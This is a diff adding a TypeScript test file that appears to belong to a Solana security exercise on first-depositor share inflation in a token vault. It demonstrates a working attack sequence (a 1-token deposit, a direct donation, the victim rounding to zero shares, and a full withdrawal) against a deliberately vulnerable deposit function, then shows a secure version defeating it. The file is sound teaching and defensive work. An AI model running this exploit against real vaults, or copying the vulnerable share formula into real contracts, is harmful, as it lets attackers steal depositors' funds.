@@ -0,0 +1,262 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import {
+    Keypair,
+    LAMPORTS_PER_SOL,
+    PublicKey,
+    SystemProgram,
+    SYSVAR_RENT_PUBKEY,
+} from "@solana/web3.js";
+import {
+    TOKEN_PROGRAM_ID,
+    createMint,
+    createAccount,
+    mintTo,
+    transfer,
+    getAccount,
+} from "@solana/spl-token";
+import { expect } from "chai";
+
+describe("09: First-Depositor Share Inflation", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.FirstDepositorInflation as Program<any>;
+
+    let attacker: Keypair;
+    let victim: Keypair;
+
+    const START_BALANCE = 10_000_000;
+    const DONATION = 1_000_000;
+    const VICTIM_DEPOSIT = 999_999;
+
+    interface VaultSetup {
+        vault: PublicKey;
+        vaultTokens: PublicKey;
+        shareMint: PublicKey;
+        tokens: Record<string, PublicKey>;
+        shares: Record<string, PublicKey>;
+    }
+
+    async function setupVault(): Promise<VaultSetup> {
+        const mint = await createMint(provider.connection, attacker, attacker.publicKey, null, 6);
+        const [vault] = PublicKey.findProgramAddressSync(
+            [Buffer.from("vault"), mint.toBuffer()],
+            program.programId
+        );
+        const [vaultTokens] = PublicKey.findProgramAddressSync(
+            [Buffer.from("vault_tokens"), vault.toBuffer()],
+            program.programId
+        );
+        const [shareMint] = PublicKey.findProgramAddressSync(
+            [Buffer.from("shares"), vault.toBuffer()],
+            program.programId
+        );
+
+        await program.methods
+            .initializeVault()
+            .accounts({
+                vault,
+                mint,
+                vaultTokens,
+                shareMint,
+                payer: attacker.publicKey,
+                tokenProgram: TOKEN_PROGRAM_ID,
+                systemProgram: SystemProgram.programId,
+                rent: SYSVAR_RENT_PUBKEY,
+            })
+            .signers([attacker])
+            .rpc();
+
+        const tokens: Record<string, PublicKey> = {};
+        const shares: Record<string, PublicKey> = {};
+        for (const kp of [attacker, victim]) {
+            const key = kp.publicKey.toBase58();
+            tokens[key] = await createAccount(provider.connection, kp, mint, kp.publicKey);
+            shares[key] = await createAccount(provider.connection, kp, shareMint, kp.publicKey);
+            await mintTo(provider.connection, attacker, mint, tokens[key], attacker, START_BALANCE);
+        }
+
+        return { vault, vaultTokens, shareMint, tokens, shares };
+    }
+
+    function accounts(setup: VaultSetup, user: Keypair) {
+        return {
+            vault: setup.vault,
+            vaultTokens: setup.vaultTokens,
+            shareMint: setup.shareMint,
+            userTokens: setup.tokens[user.publicKey.toBase58()],
+            userShares: setup.shares[user.publicKey.toBase58()],
+            user: user.publicKey,
+            tokenProgram: TOKEN_PROGRAM_ID,
+        };
+    }
+
+    async function amountOf(account: PublicKey): Promise<number> {
+        return Number((await getAccount(provider.connection, account)).amount);
+    }
+
+    before(async () => {
+        attacker = Keypair.generate();
+        victim = Keypair.generate();
+
+        for (const kp of [attacker, victim]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 5 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+    });
+
+    describe("Exploit: donation inflates share price on vulnerable_deposit", () => {
+        let setup: VaultSetup;
+
+        before(async () => {
+            setup = await setupVault();
+        });
+
+        it("attacker deposits 1 token and receives 1 share", async () => {
+            await program.methods
+                .vulnerableDeposit(new anchor.BN(1))
+                .accounts(accounts(setup, attacker))
+                .signers([attacker])
+                .rpc();
+
+            expect(await amountOf(setup.shares[attacker.publicKey.toBase58()])).to.equal(1);
+        });
+
+        it("attacker donates tokens directly to the vault", async () => {
+            await transfer(
+                provider.connection,
+                attacker,
+                setup.tokens[attacker.publicKey.toBase58()],
+                setup.vaultTokens,
+                attacker,
+                DONATION
+            );
+
+            expect(await amountOf(setup.vaultTokens)).to.equal(DONATION + 1);
+        });
+
+        it("victim's deposit rounds down to zero shares", async () => {
+            await program.methods
+                .vulnerableDeposit(new anchor.BN(VICTIM_DEPOSIT))
+                .accounts(accounts(setup, victim))
+                .signers([victim])
+                .rpc();
+
+            const victimShares = await amountOf(setup.shares[victim.publicKey.toBase58()]);
+            console.log(`  Victim deposited ${VICTIM_DEPOSIT}, received ${victimShares} shares`);
+            expect(victimShares).to.equal(0);
+        });
+
+        it("attacker redeems 1 share for the entire vault", async () => {
+            await program.methods
+                .vulnerableWithdraw(new anchor.BN(1))
+                .accounts(accounts(setup, attacker))
+                .signers([attacker])
+                .rpc();
+
+            const attackerBalance = await amountOf(setup.tokens[attacker.publicKey.toBase58()]);
+            const profit = attackerBalance - START_BALANCE;
+            console.log(`  Attacker profit: ${profit} tokens (victim's deposit)`);
+            expect(profit).to.equal(VICTIM_DEPOSIT);
+            expect(await amountOf(setup.vaultTokens)).to.equal(0);
+        });
+    });
+
+    describe("Secure: virtual shares and internal accounting", () => {
+        let setup: VaultSetup;
+
+        before(async () => {
+            setup = await setupVault();
+        });
+
+        it("runs the same attack sequence", async () => {
+            await program.methods
+                .secureDeposit(new anchor.BN(1))
+                .accounts(accounts(setup, attacker))
+                .signers([attacker])
+                .rpc();
+
+            await transfer(
+                provider.connection,
+                attacker,
+                setup.tokens[attacker.publicKey.toBase58()],
+                setup.vaultTokens,
+                attacker,
+                DONATION
+            );
+
+            await program.methods
+                .secureDeposit(new anchor.BN(VICTIM_DEPOSIT))
+                .accounts(accounts(setup, victim))
+                .signers([victim])
+                .rpc();
+
+            const vault = await program.account.vault.fetch(setup.vault);
+            expect(vault.totalAssets.toNumber()).to.equal(1 + VICTIM_DEPOSIT);
+
+            const victimShares = await amountOf(setup.shares[victim.publicKey.toBase58()]);
+            console.log(`  Victim deposited ${VICTIM_DEPOSIT}, received ${victimShares} shares`);
+            expect(victimShares).to.be.greaterThan(0);
+        });
+
+        it("victim withdraws their deposit (minus at most 1 unit of rounding)", async () => {
+            const victimShares = await amountOf(setup.shares[victim.publicKey.toBase58()]);
+
+            await program.methods
+                .secureWithdraw(new anchor.BN(victimShares))
+                .accounts(accounts(setup, victim))
+                .signers([victim])
+                .rpc();
+
+            const victimBalance = await amountOf(setup.tokens[victim.publicKey.toBase58()]);
+            expect(START_BALANCE - victimBalance).to.be.at.most(1);
+        });
+
+        it("attacker loses the donation", async () => {
+            const attackerShares = await amountOf(setup.shares[attacker.publicKey.toBase58()]);
+
+            await program.methods
+                .secureWithdraw(new anchor.BN(attackerShares))
+                .accounts(accounts(setup, attacker))
+                .signers([attacker])
+                .rpc();
+
+            const attackerBalance = await amountOf(setup.tokens[attacker.publicKey.toBase58()]);
+            const loss = START_BALANCE - attackerBalance;
+            console.log(`  Attacker net loss: ${loss} tokens`);
+            expect(loss).to.be.at.least(DONATION);
+        });
+
+        it("rejects a deposit that would mint zero shares", async () => {
+            try {
+                await program.methods
+                    .secureDeposit(new anchor.BN(0))
+                    .accounts(accounts(setup, victim))
+                    .signers([victim])
+                    .rpc();
+
+                expect.fail("Should have thrown");
+            } catch (error: any) {
+                expect(error.message).to.include("ZeroShares");
+            }
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== First-Depositor Inflation ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  shares = amount * supply / vault_tokens.amount");
+            console.log("  Risk: direct transfers inflate the denominator; deposits round to 0\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  shares = amount * (supply + 1000) / (total_assets + 1)");
+            console.log("  Protection: donations ignored, virtual shares bound rounding, 0 shares rejected\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  Never price shares from a balance anyone can send tokens to.");
+        });
+    });
+});